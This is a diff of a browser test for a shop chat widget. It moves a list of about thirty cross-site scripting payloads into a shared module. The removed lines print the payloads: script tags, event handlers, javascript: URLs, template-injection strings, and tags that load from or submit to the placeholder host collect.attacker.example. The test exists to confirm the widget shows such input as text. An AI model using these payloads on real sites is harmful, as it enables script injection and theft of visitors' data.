@@ -3,6 +3,7 @@ import { expect, it } from 'vitest';
 import { useBrowser } from '../support/browser.ts';
 import { hostileDepartments, hostileLine, hostileParts } from '../support/hostile-parts.ts';
 import { startTestServer } from '../support/http.ts';
+import { SCRIPT_PAYLOADS } from '../support/script-payloads.ts';
 import { createScriptedBasket } from '../support/scripted-basket.ts';
 import { createScriptedChat } from '../support/scripted-chat.ts';
 
@@ -19,40 +20,6 @@ const ANSWERS = readFileSync(
   .filter(({ to, repeat }) => to === 'reply' && repeat === undefined)
   .flatMap(({ say }) => say ?? []);
 
-/** Text of the shop, or of a shopper, that would be more than text. */
-const PAYLOADS = [
-  '<script>globalThis.broken=1</script>',
-  '<img src=x onerror="globalThis.broken=1">',
-  '<svg onload="globalThis.broken=1">',
-  '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>',
-  '<a href="javascript:globalThis.broken=1">x</a>',
-  '"><script>globalThis.broken=1</script>',
-  "' autofocus onfocus='globalThis.broken=1",
-  '<details open ontoggle="globalThis.broken=1">',
-  '<math><mi xlink:href="javascript:globalThis.broken=1">',
-  '<style>@import url(https://collect.attacker.example/c.css)</style>',
-  '<link rel=stylesheet href=https://collect.attacker.example/c.css>',
-  '<base href=https://collect.attacker.example/>',
-  '<object data=https://collect.attacker.example/o></object>',
-  '<video src=https://collect.attacker.example/v onerror="globalThis.broken=1">',
-  '<form action=https://collect.attacker.example><input name=q autofocus></form>',
-  '{{constructor.constructor("globalThis.broken=1")()}}',
-  '<template shadowrootmode=open><script>globalThis.broken=1</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=globalThis.broken=1>">',
-  '<marquee onstart="globalThis.broken=1">',
-  '<body onload="globalThis.broken=1">',
-  '<input onfocus="globalThis.broken=1" autofocus>',
-  '<svg><use href="data:image/svg+xml,<svg onload=globalThis.broken=1>"/></svg>',
-  '<meta http-equiv=refresh content="0;url=https://collect.attacker.example">',
-  '![x](https://collect.attacker.example/p.png)',
-  '[x](javascript:globalThis.broken=1)',
-  '&lt;script&gt;globalThis.broken=1&lt;/script&gt;',
-  '\u202e<script>globalThis.broken=1</script>\u202c',
-  '<scr<script>ipt>globalThis.broken=1</script>',
-  'javascript:globalThis.broken=1',
-  'data:text/html,<script>globalThis.broken=1</script>',
-];
-
 /** Several to a reply: they are shown as they come. */
 const TOGETHER = 8;
 const REPLIES = Array.from({ length: Math.ceil(ANSWERS.length / TOGETHER) }, (_, index) =>
@@ -64,7 +31,7 @@ async function openShop() {
   const chat = createScriptedChat({
     answer(turn) {
       const text = REPLIES[next % REPLIES.length] ?? '';
-      const payload = PAYLOADS[next % PAYLOADS.length] ?? '';
+      const payload = SCRIPT_PAYLOADS[next % SCRIPT_PAYLOADS.length] ?? '';
       next += 1;
       const products = turn.products.map((product) => ({
         ...product,
@@ -82,7 +49,7 @@ async function openShop() {
     },
   });
   const departments = hostileDepartments();
-  const basket = createScriptedBasket(PAYLOADS.map((payload, index) => hostileLine(payload, index)));
+  const basket = createScriptedBasket(SCRIPT_PAYLOADS.map((payload, index) => hostileLine(payload, index)));
   const { url } = await startTestServer({ chat, departments, basket, widgetDirectory: widgetDirectory() });
   const page = await openPage();
   const foreign: string[] = [];
@@ -101,8 +68,8 @@ it('shows every hostile answer and payload as words: no host but its own, no scr
   const { page, chat, foreign, errors, origin } = await openShop();
   await page.locator('.launcher').focus();
   await page.keyboard.press('Enter');
-  for (const index of Array(Math.max(REPLIES.length, PAYLOADS.length)).keys()) {
-    await page.locator('textarea').fill(PAYLOADS[index % PAYLOADS.length] ?? '');
+  for (const index of Array(Math.max(REPLIES.length, SCRIPT_PAYLOADS.length)).keys()) {
+    await page.locator('textarea').fill(SCRIPT_PAYLOADS[index % SCRIPT_PAYLOADS.length] ?? '');
     const send = async () => {
       await page.locator('textarea').press('Enter');
       return chat.handled.length;
@@ -114,10 +81,10 @@ it('shows every hostile answer and payload as words: no host but its own, no scr
   await page.locator('.products [data-add]').last().click();
   await page.locator('.picker .pill').first().waitFor();
   await page.locator('[data-drawer="basket"]').click();
-  await expect.poll(() => page.locator('.basket-line').count()).toBe(PAYLOADS.length);
+  await expect.poll(() => page.locator('.basket-line').count()).toBe(SCRIPT_PAYLOADS.length);
 
   expect(ANSWERS.length).toBeGreaterThanOrEqual(150);
-  expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
+  expect(SCRIPT_PAYLOADS.length).toBeGreaterThanOrEqual(30);
   expect(foreign).toEqual([]);
   // Pictures at addresses that are none are asked of the shop itself, and are not there.
   expect(errors.filter((error) => !error.startsWith('Failed to load resource'))).toEqual([]);
